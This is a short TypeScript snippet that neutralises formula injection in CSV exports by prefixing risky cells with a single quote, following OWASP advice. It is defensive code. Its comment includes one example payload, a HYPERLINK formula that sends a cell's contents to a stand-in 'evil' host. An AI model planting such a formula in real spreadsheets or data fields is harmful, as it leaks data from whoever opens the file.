// Cells of the CSV files the server hands out (import rejects, audit exports) are opened
// in Excel or LibreOffice, which run a cell that starts with = + - @ (or a tab or carriage
// return before one) as a formula: `=HYPERLINK("http://evil/?"&A1,"click")` in a rejected
// row's name would run on the admin's machine. OWASP's remedy: such a cell starts with a
// single quote, which the spreadsheet shows as text and does not display.
const FORMULA_START = /^[=+\-@\t\r]/;

export function spreadsheetSafe(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}
